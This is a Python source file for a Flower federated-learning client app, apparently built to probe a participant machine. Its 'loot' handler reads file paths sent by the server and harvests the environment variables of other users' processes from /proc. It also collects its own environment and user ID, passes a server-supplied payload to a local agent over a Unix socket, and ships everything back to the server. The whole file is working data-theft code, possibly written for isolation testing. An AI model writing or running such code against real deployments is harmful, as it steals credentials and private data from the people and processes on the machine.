"""Reads whatever it can reach at a party, asks its agent for more, and sends home what it got."""

import json
import os
import socket
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def loot(message: Message, context: Context) -> Message:
    order = message.content.config_records["order"]
    found = {target: _read(Path(target)) for target in json.loads(str(order["targets"]))}
    environments = [_read(entry / "environ") for entry in Path("/proc").iterdir() if _is_anothers(entry)]
    others = [data for data in environments if data]
    reply = _ask(str(context.node_config["door"]), bytes.fromhex(str(order["parcel"])))
    booty = {"files": found, "environments": others, "own": dict(os.environ), "user": os.geteuid(), "reply": reply}
    return Message(RecordDict({"booty": ConfigRecord({"json": json.dumps(booty)})}), reply_to=message)


def _is_anothers(entry: Path) -> bool:
    """Tell whether an entry of /proc is a process of another user: this one's own may be another federation's, too."""
    try:
        return entry.name.isdigit() and entry.stat().st_uid != os.geteuid()
    except OSError:
        return False


def _read(path: Path) -> str:
    try:
        return path.read_bytes()[:200].decode("latin-1")
    except OSError:
        return ""


def _ask(door: str, parcel: bytes) -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(20)
        connection.connect(door)
        connection.sendall(len(parcel).to_bytes(8, "big") + parcel)
        size = int.from_bytes(connection.recv(8), "big")
        data = b""
        while len(data) < size:
            data += connection.recv(size - len(data))
    return data.decode("latin-1")
